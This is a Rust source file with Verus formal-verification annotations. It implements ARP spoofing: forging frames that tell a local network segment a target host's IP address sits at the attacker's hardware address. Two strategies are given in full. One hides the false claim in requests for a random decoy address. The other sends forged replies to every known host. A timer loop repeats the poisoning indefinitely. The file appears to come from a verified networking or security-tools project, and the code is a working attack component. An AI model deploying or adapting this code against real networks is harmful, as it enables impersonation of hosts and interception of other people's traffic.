//! Impersonation of a host: the frames of each strategy and the pace at which
//! they are repeated.
//!
//! To impersonate `target`, the attacker keeps telling the segment that the
//! target's protocol address is at the attacker's hardware address. The
//! stealthy strategy hides the claim in requests for some other address of
//! the subnet; the direct strategy sends it as a reply to every known host.

use crate::addr::{Ipv4Addr, MacAddr};
use crate::arp::frame::{lemma_reply_roundtrip, lemma_request_roundtrip, parse};
use crate::arp::frame::{reply_frame, request_frame, Frame, ParsedArp, ARP_REPLY, ARP_REQUEST};
use crate::arp::nic::{InterfaceError, NetworkInterface};
use crate::arp::{arp_reply, arp_request};
use crate::network::Ipv4Network;
use crate::utils::{random_ip_in_network, timer_expired_after};
use vstd::prelude::*;

verus! {

/// Judges one candidate for the address that a stealthy request asks for:
/// any address will do but the target's own, whose owner would answer.
pub fn accept_decoy(candidate: Ipv4Addr, target: Ipv4Addr) -> (decoy: Option<Ipv4Addr>)
    ensures
        decoy == if candidate != target {
            Some(candidate)
        } else {
            None
        },
{
    if candidate != target {
        Some(candidate)
    } else {
        None
    }
}

/// Draws random addresses of `network` until one is accepted as a decoy, at
/// most `attempts` times.
///
/// The decoy is never the target and always lies in the subnet. Each draw is
/// rejected only if it hits the target, so a subnet that does not hold the
/// target yields a decoy at the first draw; `None` means that every draw hit
/// the target, or that no draw was allowed.
pub fn decoy_address(network: &Ipv4Network, target: Ipv4Addr, attempts: u32) -> (decoy: Option<
    Ipv4Addr,
>)
    ensures
        decoy matches Some(ip) ==> ip != target && network@.contains(ip),
        attempts == 0 ==> decoy is None,
        attempts > 0 && !network@.contains(target) ==> decoy is Some,
{
    let mut left: u32 = attempts;
    while left > 0
        invariant
            left <= attempts,
            left < attempts ==> network@.contains(target),
        decreases left,
    {
        let candidate = random_ip_in_network(network);
        match accept_decoy(candidate, target) {
            Some(ip) => {
                return Some(ip);
            },
            None => {},
        }
        left -= 1;
    }
    None
}

/// Builds one stealthy message: a request for `decoy` that claims to come
/// from the target's protocol address, sent from the interface's own
/// hardware address. It fails with `MissingMAC` exactly when the interface
/// has no hardware address.
pub fn stealthy_request(interface: &NetworkInterface, decoy: Ipv4Addr, target: Ipv4Addr) -> (request:
    Result<Frame, InterfaceError>)
    ensures
        match interface@.mac {
            Some(mac) => request matches Ok(frame) && frame@ == request_frame(mac, target, decoy)
                && parse(frame@) == Some(
                ParsedArp {
                    operation: ARP_REQUEST,
                    sender_hw_addr: mac,
                    sender_proto_addr: target,
                    target_hw_addr: MacAddr::spec_zero(),
                    target_proto_addr: decoy,
                },
            ),
            None => request matches Err(e) && e == InterfaceError::MissingMAC,
        },
{
    proof {
        if interface@.mac is Some {
            lemma_request_roundtrip(interface@.mac.unwrap(), target, decoy);
        }
    }
    arp_request(interface, decoy, None, Some(target))
}

/// The replies that tell each of `hosts` that `target` is at `mac`.
pub open spec fn replies_for(mac: MacAddr, target: Ipv4Addr, hosts: Seq<(Ipv4Addr, MacAddr)>) -> Seq<
    Seq<u8>,
> {
    hosts.map_values(|host: (Ipv4Addr, MacAddr)| reply_frame(mac, target, host.1, host.0))
}

/// Every reply of a round reads as a reply from `mac` that claims `target`
/// and is addressed to the host it was built for.
pub proof fn lemma_replies_claim_target(
    mac: MacAddr,
    target: Ipv4Addr,
    hosts: Seq<(Ipv4Addr, MacAddr)>,
    i: int,
)
    requires
        0 <= i < hosts.len(),
    ensures
        parse(replies_for(mac, target, hosts)[i]) == Some(
            ParsedArp {
                operation: ARP_REPLY,
                sender_hw_addr: mac,
                sender_proto_addr: target,
                target_hw_addr: hosts[i].1,
                target_proto_addr: hosts[i].0,
            },
        ),
{
    lemma_reply_roundtrip(mac, target, hosts[i].1, hosts[i].0);
}

/// The octets of each frame of a list.
pub open spec fn frame_octets(frames: Seq<Frame>) -> Seq<Seq<u8>> {
    frames.map_values(|frame: Frame| frame@)
}

/// Builds the messages of one round of the direct strategy: for each known
/// host, in order, a reply from the interface's own hardware address that
/// claims the target's protocol address. With hosts to tell and no hardware
/// address to tell them it fails with `MissingMAC`; with no hosts there is
/// nothing to build.
pub fn direct_replies(interface: &NetworkInterface, hosts: &[(Ipv4Addr, MacAddr)], target: Ipv4Addr) -> (replies:
    Result<Vec<Frame>, InterfaceError>)
    ensures
        match interface@.mac {
            Some(mac) => replies matches Ok(frames) && frame_octets(frames@) == replies_for(
                mac,
                target,
                hosts@,
            ),
            None => if hosts@.len() == 0 {
                replies matches Ok(frames) && frames@.len() == 0
            } else {
                replies matches Err(e) && e == InterfaceError::MissingMAC
            },
        },
{
    let mut frames: Vec<Frame> = Vec::new();
    let mut i: usize = 0;
    while i < hosts.len()
        invariant
            i <= hosts.len(),
            frames@.len() == i,
            i > 0 ==> interface@.mac is Some,
            interface@.mac matches Some(mac) ==> frame_octets(frames@) == replies_for(
                mac,
                target,
                hosts@.take(i as int),
            ),
        decreases hosts.len() - i,
    {
        let host = hosts[i];
        match arp_reply(interface, host.1, host.0, None, Some(target)) {
            Ok(frame) => {
                proof {
                    let mac = interface@.mac.unwrap();
                    let built = frame_octets(frames@.push(frame));
                    let wanted = replies_for(mac, target, hosts@.take(i + 1));
                    let earlier = replies_for(mac, target, hosts@.take(i as int));
                    assert forall|j: int| 0 <= j < built.len() implies built[j] == wanted[j] by {
                        if j < i {
                            assert(built[j] == frame_octets(frames@)[j]);
                            assert(wanted[j] == earlier[j]);
                        }
                    }
                    assert(built =~= wanted);
                }
                frames.push(frame);
            },
            Err(error) => {
                return Err(error);
            },
        }
        i += 1;
    }
    proof {
        assert(hosts@.take(hosts@.len() as int) =~= hosts@);
        if interface@.mac is Some {
            assert(frame_octets(frames@) =~= replies_for(interface@.mac.unwrap(), target, hosts@));
        }
    }
    Ok(frames)
}

/// What an attack loop knows: the period between two runs, and whether the
/// attack has run yet.
pub struct AttackLoopView {
    pub period_nanos: nat,
    pub started: bool,
}

impl AttackLoopView {
    /// Whether the attack runs when `elapsed_nanos` have passed since it last
    /// ran: at once the first time, and then whenever at least one period has
    /// passed.
    pub open spec fn due(self, elapsed_nanos: nat) -> bool {
        !self.started || elapsed_nanos >= self.period_nanos
    }
}

/// The pace of an attack that is repeated for ever. The caller polls `tick`
/// with the time that has passed since the attack last ran, and runs the
/// attack whenever `tick` says so.
#[derive(Clone, Copy, Debug)]
pub struct AttackLoop {
    period_nanos: u128,
    started: bool,
}

impl View for AttackLoop {
    type V = AttackLoopView;

    closed spec fn view(&self) -> AttackLoopView {
        AttackLoopView { period_nanos: self.period_nanos as nat, started: self.started }
    }
}

impl AttackLoop {
    /// A loop that has not run yet.
    pub fn new(period_nanos: u128) -> (pace: AttackLoop)
        ensures
            pace@ == (AttackLoopView { period_nanos: period_nanos as nat, started: false }),
    {
        AttackLoop { period_nanos, started: false }
    }

    /// Decides whether the attack runs now. The first poll always runs it;
    /// with a period of zero every poll does.
    pub fn tick(&mut self, elapsed_nanos: u128) -> (run: bool)
        ensures
            run == old(self)@.due(elapsed_nanos as nat),
            old(self)@.period_nanos == 0 ==> run,
            final(self)@.period_nanos == old(self)@.period_nanos,
            final(self)@.started == (old(self)@.started || run),
            final(self)@.started,
    {
        let run = !self.started || timer_expired_after(elapsed_nanos, self.period_nanos);
        self.started = true;
        run
    }
}

} // verus!
